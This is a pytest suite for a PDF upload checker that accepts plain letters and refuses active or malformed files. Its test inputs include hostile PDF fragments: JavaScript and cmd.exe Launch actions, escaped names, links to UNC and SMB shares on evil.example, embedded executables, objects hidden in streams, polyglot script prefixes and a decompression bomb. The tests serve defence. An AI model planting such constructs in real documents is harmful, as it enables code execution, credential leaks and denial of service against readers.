"""Uploaded PDFs: active content is refused, however it is hidden."""

import fcntl
import io
import re
import shutil
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pypdf import PdfWriter

from installations import pdf_checks
from installations.pdf_checks import check_pdf
from installations.pdf_structure import MAX_PAGES, PdfVerdict
from poa_documents.pdf.readability_sample import render_sample
from poa_documents.seal.keys import make_key
from poa_documents.seal.pades import seal
from poa_documents.seal.values import Words
from tests.pdf_files import (
    letter,
    letter_objects,
    locked_letter,
    packed_letter,
    packed_scattered,
    stream_of,
    written,
    written_packed,
)

SIGNED_AT = datetime(2026, 3, 2, 16, 0, tzinfo=UTC)
FILES = Path(__file__).parent / "files"
PROGRAM = b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"


def annotated(part: bytes) -> bytes:
    return written(with_annotation(part))


def packed_annotated(part: bytes) -> bytes:
    objects = with_annotation(part)
    packed = {number: body for number, body in objects.items() if b"stream" not in body}
    return written_packed({number: body for number, body in objects.items() if number not in packed}, packed)


def with_annotation(part: bytes) -> dict[int, bytes]:
    objects = letter_objects()
    objects[3] = objects[3][:-2] + b" /Annots [8 0 R]>>"
    objects[8] = part
    objects[9] = b"<<>>"
    return objects


def scattered(count: int) -> bytes:
    """A letter with this many empty objects, in at most 15 MB."""
    return letter() + b"0 0 obj endobj\n" * count + b"startxref\n0\n%%EOF\n"


def sealed_letter() -> bytes:
    key = make_key("The utility", starts_at=SIGNED_AT - timedelta(days=1), ends_at=SIGNED_AT + timedelta(days=1))
    words = Words(field="Seal", reason="Permission to operate", sealed_by="The utility")
    content, _timestamp = seal(render_sample("en", "apple", "Lone Star"), key, words=words, signed_at=SIGNED_AT)
    return content


# Letters


@pytest.mark.parametrize(
    "content",
    [
        letter(),
        packed_letter(),
        letter(pages=MAX_PAGES),
        locked_letter(password=""),
        letter(catalog=b"/OpenAction [3 0 R /Fit] /Names <</Dests 2 0 R>>"),
        letter(words=b"see page 3 of the JavaScript manual; JS, Launch"),
        letter() + b"\r\n\r\n",
    ],
    ids=["plain", "packed", "long", "forbids changes only", "opens on page one", "speaks of programs", "blank lines"],
)
def test_letters_are_accepted(content: bytes) -> None:
    assert check_pdf(content) == PdfVerdict.PLAIN


def test_our_own_documents_are_accepted() -> None:
    assert check_pdf(render_sample("en", "apple", "Lone Star")) == PdfVerdict.PLAIN


def test_letter_with_a_later_revision_is_accepted() -> None:
    writer = PdfWriter(io.BytesIO(letter()), incremental=True)
    writer.add_metadata({"/Title": "Permission to operate"})
    file = io.BytesIO()
    writer.write(file)

    assert check_pdf(file.getvalue()) == PdfVerdict.PLAIN


def test_random_bytes_in_a_picture_are_no_program() -> None:
    """A scan of several megabytes contains any three letters somewhere."""
    scan = b"\x93/JS \x00/JS>\xff/EF " * 50
    objects = letter_objects()
    objects[9] = stream_of(b"<</Type /XObject /Subtype /Image /Length %d>>" % len(scan), scan)

    assert check_pdf(written(objects)) == PdfVerdict.PLAIN


# What letters contain besides text


@pytest.mark.parametrize("name", sorted(path.name for path in FILES.glob("*.pdf")))
def test_letters_with_suspicious_names_are_accepted(name: str) -> None:
    """Links, titles and fonts may have any name; a name does nothing."""
    assert check_pdf((FILES / name).read_bytes()) == PdfVerdict.PLAIN


@pytest.mark.parametrize("lead", [b"\n", b"\r\n\t\t \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n", b"\x00", b" " * 1000])
def test_whitespace_and_marks_before_the_header_are_accepted(lead: bytes) -> None:
    assert check_pdf(lead + letter()) == PdfVerdict.PLAIN
    assert check_pdf(lead + packed_letter()) == PdfVerdict.PLAIN


@pytest.mark.parametrize("lead", [b"MZ", b"<html>", b"x", b" " * 1200, b"PK\x03\x04"])
def test_anything_else_before_the_header_is_refused(lead: bytes) -> None:
    assert check_pdf(lead + letter()) == PdfVerdict.DAMAGED


def test_offsets_counted_from_the_whitespace_are_understood() -> None:
    """Some programs write the whitespace themselves and count it."""
    content = letter()
    table_at = content.rindex(b"xref\n0 ")
    counted = b"".join(
        b"%010d 00000 n \n" % (int(line[:10]) + 2) if line.endswith(b" n \n") else line
        for line in content[table_at:].splitlines(keepends=True)
    ).replace(b"startxref\n%d" % table_at, b"startxref\n%d" % (table_at + 2))

    assert check_pdf(b"\r\n" + content[:table_at] + counted) == PdfVerdict.PLAIN


LINK = b"<</Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] /A %s>>"


@pytest.mark.parametrize(
    "part",
    [
        LINK % b"<</S /URI /URI (https://utility.example/Launch)>>",
        LINK % b"<</S /URI /URI (mailto:dg@utility.example)>>",
        LINK % b"<</S /URI /URI (www.utility.example/dg)>>",
        LINK % b"<</S /GoTo /D [3 0 R /Fit]>>",
        LINK % b"<</S /Named /N /NextPage>>",
        b"<</Type /Annot /Subtype /Highlight /Rect [0 0 9 9] /QuadPoints [0 0 9 0 0 9 9 9] /C [1 1 0]>>",
        b"<</Subtype /FreeText /Rect [0 0 9 9] /DA (/F1 12 Tf) /Contents (approved) /AAPL:Hash (9)>>",
    ],
)
@pytest.mark.parametrize("write", [annotated, packed_annotated])
def test_links_and_notes_are_accepted(part: bytes, write: Callable[[bytes], bytes]) -> None:
    assert check_pdf(write(part)) == PdfVerdict.PLAIN


@pytest.mark.parametrize(
    "catalog",
    [
        b"/Outlines <</First 8 0 R /Last 8 0 R /Count 1>>",
        b"/Names <</Dests <</Names [(top) [3 0 R /Fit]]>>>>",
        b"/OpenAction <</S /GoTo /D [3 0 R /Fit]>> /PageMode /UseOutlines /ViewerPreferences <</DisplayDocTitle true>>",
        b"/MarkInfo <</Marked true>> /Lang (en-US) /StructTreeRoot <</Type /StructTreeRoot /RoleMap <</Sound /P>>>>",
        b"/PieceInfo <</Maker <</Private <</Movie 1>>>>>> /OCProperties <</OCGs [] /D <<>>>>",
    ],
)
def test_outlines_names_and_structure_are_accepted(catalog: bytes) -> None:
    objects = letter_objects(catalog=catalog)
    objects[8] = b"<</Title (Form P/EF) /Parent 9 0 R /A <</S /GoTo /D [3 0 R /Fit]>>>>"
    objects[9] = b"null"

    assert check_pdf(written(objects)) == PdfVerdict.PLAIN


def test_signed_letter_is_accepted() -> None:
    """Utilities sign what they send, and so do we."""
    content = sealed_letter()

    assert b"/AcroForm" in content
    assert check_pdf(content) == PdfVerdict.PLAIN


# Actions on opening or viewing a page


@pytest.mark.parametrize(
    "action",
    [
        b"<</S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]>>",
        b"<</S /GoToR /F <</Type /Filespec /UF (//evil.example/a.pdf)>> /D [0 /Fit]>>",
        b"<</S /URI /URI (https://evil.example/)>>",
        b"<</S /Thread /F (other.pdf) /D 0>>",
        b"<</S /GoTo /D [3 0 R /Fit] /Next <</S /URI /URI (https://evil.example/)>>>>",
        b"<</S /Named /N /Print>>",
        b"<</S /SetOCGState /State []>>",
        b"<</S /Hide /T (a)>>",
        b"<</S /Invented>>",
    ],
)
@pytest.mark.parametrize("write", [letter, packed_letter])
def test_action_on_opening_is_refused(action: bytes, write: Callable[..., bytes]) -> None:
    assert check_pdf(write(catalog=b"/OpenAction " + action)) == PdfVerdict.ACTIVE


HARMLESS = b"<</S /GoTo /D [3 0 R /Fit]>>"


@pytest.mark.parametrize(
    "catalog",
    [
        b"/AA <</WC %s>>" % HARMLESS,
        b"/URI <</Base (https://evil.example/)>>",
        b"/AcroForm <</Fields []>>",
        b"/AcroForm <</Fields [<</FT /Tx /T (name)>>]>>",
        b"/AcroForm <</Fields [<</FT /Sig /T (unsigned)>>]>>",
        b"/Collection <<>>",
        b"/Threads []",
        b"/Requirements []",
        b"/Names <</JavaScript <</Names []>>>>",
        b"/Names <</Renditions <</Names []>>>>",
        b"/PageMode /FullScreen",
        b"/Invented true",
        b"/Outlines <</First <</Title (a) /A <</S /Launch /F (cmd.exe)>>>>>>",
        b"/Outlines <</First <</Title (a) /AA <</D %s>>>>>>" % HARMLESS,
    ],
)
@pytest.mark.parametrize("write", [letter, packed_letter])
def test_unlisted_catalog_entries_are_refused(catalog: bytes, write: Callable[..., bytes]) -> None:
    assert check_pdf(write(catalog=catalog)) == PdfVerdict.ACTIVE


@pytest.mark.parametrize(
    "part",
    [
        b"<</Subtype /Screen /Rect [0 0 9 9]>>",
        b"<</Subtype /3D /Rect [0 0 9 9] /3DD 9 0 R>>",
        b"<</Subtype /Movie /Rect [0 0 9 9]>>",
        b"<</Subtype /FileAttachment /Rect [0 0 9 9] /FS (a)>>",
        b"<</Subtype /Widget /Rect [0 0 9 9] /FT /Btn>>",
        b"<</Subtype /Widget /Rect [0 0 9 9] /FT /Sig /V <</Type /Sig /ByteRange [0 1 2 3]>> /AA <</E %s>>>>"
        % HARMLESS,
        b"<</Subtype /Link /Rect [0 0 9 9] /AA <</E %s>>>>" % HARMLESS,
        b"<</Subtype /Text /Rect [0 0 9 9] /A <</S /URI /URI (https://a.example)>>>>",
        b"<</Subtype /Invented /Rect [0 0 9 9]>>",
        LINK % b"<</S /GoToR /F (a.pdf)>>",
        LINK % b"<</S /URI /URI (file://evil.example/share/a.pdf)>>",
        LINK % b"<</S /URI /URI (file:////evil.example/share/a.pdf)>>",
        LINK % b"<</S /URI /URI (\\\\\\\\evil.example\\\\share)>>",
        LINK % b"<</S /URI /URI (java\\nscript:alert\\(1\\))>>",
        LINK % b"<</S /URI /URI (smb://evil.example/share)>>",
        LINK % b"<</S /Launch /F (cmd.exe)>>",
    ],
)
@pytest.mark.parametrize("write", [annotated, packed_annotated])
def test_acting_or_playing_page_entries_are_refused(part: bytes, write: Callable[[bytes], bytes]) -> None:
    assert check_pdf(write(part)) == PdfVerdict.ACTIVE


@pytest.mark.parametrize(
    "head",
    [
        b"/F (//evil.example/picture) /Type /XObject /Subtype /Image",
        b"/FFilter /FlateDecode",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref <</F (other.pdf) /Page 0>>",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI <</2.0 <</F (other.tif)>>>>",
        b"/Type /XObject /Subtype /PS",
        b"/Type /EmbeddedFile",
        b"/Filter /Invented",
    ],
)
def test_stream_pointing_elsewhere_is_refused(head: bytes) -> None:
    objects = letter_objects()
    objects[9] = stream_of(b"<<%s /Length 1>>" % head, b"x")

    assert check_pdf(written(objects)) == PdfVerdict.ACTIVE


def test_page_that_starts_something_is_refused() -> None:
    objects = letter_objects()
    objects[3] = objects[3].replace(b"/Type /Page ", b"/AA <</O %s>> " % HARMLESS)

    assert check_pdf(written(objects)) == PdfVerdict.ACTIVE


# Programs and attachments


@pytest.mark.parametrize(
    "catalog",
    [
        PROGRAM,
        PROGRAM.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"),
        b"/OpenAction <</S /L#61unch /F (cmd.exe)>>",
        b"/AA <</WC <</S /SubmitForm /F (https://elsewhere.test)>>>>",
        b"/Names <</EmbeddedFiles <</Names [(a.exe) 9 0 R]>>>>",
        b"/AF [<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>]",
        b"/AcroForm <</Fields [] /XFA 9 0 R>>",
        b"/Extra <</Type /Annot /Subtype /RichMedia>>",
    ],
)
@pytest.mark.parametrize("write", [letter, packed_letter])
def test_programs_are_found_plain_escaped_or_compressed(catalog: bytes, write: Callable[..., bytes]) -> None:
    assert check_pdf(write(catalog=catalog)) == PdfVerdict.ACTIVE


def test_program_is_found_in_an_openly_encrypted_file() -> None:
    """There, compressed parts are encrypted as well."""
    reader = PdfFileReader(io.BytesIO(letter(catalog=PROGRAM)))
    writer = copy_into_new_writer(reader, writer_kwargs={"stream_xrefs": True})
    writer.encrypt("the utility's own", "")
    script = writer.root.raw_get("/OpenAction")
    writer.root["/OpenAction"] = writer.add_object(script, obj_stream=writer.prepare_object_stream())
    file = io.BytesIO()
    writer.write(file)

    assert b"JavaScript" not in file.getvalue()
    assert check_pdf(file.getvalue()) == PdfVerdict.ACTIVE


def test_program_in_an_earlier_revision_is_found() -> None:
    """Some programs offer to show a file as it was before."""
    objects = letter_objects(catalog=PROGRAM)
    packed = {1: objects.pop(1)}
    writer = PdfWriter(io.BytesIO(written_packed(objects, packed)), incremental=True)
    del writer.root_object["/OpenAction"]
    file = io.BytesIO()
    writer.write(file)

    assert check_pdf(file.getvalue()) == PdfVerdict.ACTIVE


def test_program_under_a_duplicate_name_is_found() -> None:
    """Of two values under one name, some programs take the first and others the last."""
    assert check_pdf(packed_letter(catalog=PROGRAM + b" /OpenAction [3 0 R /Fit]")) == PdfVerdict.DAMAGED


def test_objects_inside_streams_are_refused() -> None:
    """A table may point into the middle of what another program reads as a picture."""
    inside = b"\n9 0 obj\n<<%s>>\nendobj\n" % PROGRAM
    objects = letter_objects()
    objects[8] = stream_of(b"<</Length %d>>" % len(inside), inside)
    content = written({**objects, 9: b"null"})
    at, real = content.index(b"9 0 obj"), content.rindex(b"9 0 obj")

    forged = content.replace(b"%010d 00000 n" % real, b"%010d 00000 n" % at)

    assert check_pdf(forged) == PdfVerdict.ACTIVE
    assert check_pdf(forged.replace(PROGRAM, b" " * len(PROGRAM))) == PdfVerdict.DAMAGED


def test_objects_missing_from_tables_are_refused() -> None:
    """A program that repairs broken files finds them and may prefer them."""
    content = letter()
    hidden = b"1 0 obj\n<</Type /Catalog /Pages 2 0 R %s>>\nendobj\n" % PROGRAM
    at = content.rindex(b"xref\n0 ")
    content = content[:at] + hidden + content[at:]
    content = content[: content.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % (at + len(hidden))

    assert check_pdf(content) == PdfVerdict.DAMAGED


def test_compressed_objects_missing_from_tables_are_refused() -> None:
    """Programs that repair broken files find them anyway."""
    hidden = zlib.compress(b"9 0 <<%s>>" % PROGRAM)
    head = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>" % len(hidden)
    content = letter().replace(b"xref\n", b"10 0 obj\n" + stream_of(head, hidden) + b"\nendobj\nxref\n", 1)
    table_at = content.rindex(b"xref\n0 ")
    content = content[: content.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % table_at

    assert check_pdf(content) == PdfVerdict.DAMAGED


# Two types in one file


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("run.js", "1")
    return file.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        letter() + zipped(),
        written(letter_objects(), before=b"%<html><script>fetch('/admin/')</script>\n"),
        written(letter_objects(), before=b"% <SVG onload=x>\n"),
    ],
    ids=["archive", "page", "drawing"],
)
def test_file_of_two_types_is_refused(content: bytes) -> None:
    assert check_pdf(content) == PdfVerdict.POLYGLOT


# Encrypted, broken, and made to keep a reader busy


def test_password_protected_file_is_refused() -> None:
    assert check_pdf(locked_letter(password="only the utility knows")) == PdfVerdict.ENCRYPTED


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.98])
def test_truncated_file_is_refused(share: float) -> None:
    content = packed_letter()

    assert check_pdf(content[: int(len(content) * share)]) == PdfVerdict.DAMAGED


def test_file_with_a_missing_middle_is_refused() -> None:
    content = packed_letter()

    assert check_pdf(content[:200] + content[400:]) == PdfVerdict.DAMAGED


@pytest.mark.parametrize("write", [letter, packed_letter])
def test_too_many_pages_are_refused_even_if_compressed(write: Callable[..., bytes]) -> None:
    assert check_pdf(write(pages=MAX_PAGES + 1)) == PdfVerdict.TOO_MANY_PAGES


def test_decompression_bomb_is_refused_unread() -> None:
    spaces = b"<<" + b" " * 200_000_000 + b">>"
    objects = letter_objects()
    packed = {1: objects.pop(1), 9: spaces}

    content = written_packed(objects, packed, filters=b"[/FlateDecode /FlateDecode]", layers=2)

    assert len(content) < 100_000
    assert check_pdf(content) == PdfVerdict.DAMAGED


def test_table_claiming_billions_of_objects_is_refused() -> None:
    content = packed_letter()
    start = content.rindex(b"/W [1 3 2]")
    forged = content[:start] + b"/W [0 0 0] /Index [0 4000000000]" + content[start + len(b"/W [1 3 2]") :]

    assert check_pdf(forged) == PdfVerdict.DAMAGED


def test_reader_without_time_says_try_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_checks, "MAX_SECONDS", 0.001)

    assert check_pdf(letter()) == PdfVerdict.BUSY


def test_reader_that_takes_too_long_is_stopped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reader = tmp_path / "reader.py"
    text = Path(pdf_checks.READER).read_text()
    reader.write_text(
        re.sub("MAX_CPU_SECONDS = [0-9]+", "MAX_CPU_SECONDS = 1", text).replace(
            "    try:\n        _check(", "    while True:\n        pass\n    try:\n        _check("
        )
    )
    monkeypatch.setattr(pdf_checks, "READER", reader)

    assert check_pdf(letter()) == PdfVerdict.TOO_LARGE


@pytest.mark.parametrize("write", [scattered, packed_scattered])
def test_million_objects_are_refused(write: Callable[[int], bytes]) -> None:
    assert check_pdf(write(1_000_000)) == PdfVerdict.TOO_LARGE


def test_only_one_reader_runs_per_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The others wait for it, and say so if it takes too long."""
    reader = shutil.copy(pdf_checks.READER, tmp_path)
    monkeypatch.setattr(pdf_checks, "READER", reader)
    with Path(reader).open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)

        assert check_pdf(letter()) == PdfVerdict.BUSY

    assert check_pdf(letter()) == PdfVerdict.PLAIN


def test_deep_nesting_is_refused() -> None:
    assert check_pdf(letter(catalog=b"/Deep " + b"[" * 100_000 + b"]" * 100_000)) == PdfVerdict.DAMAGED
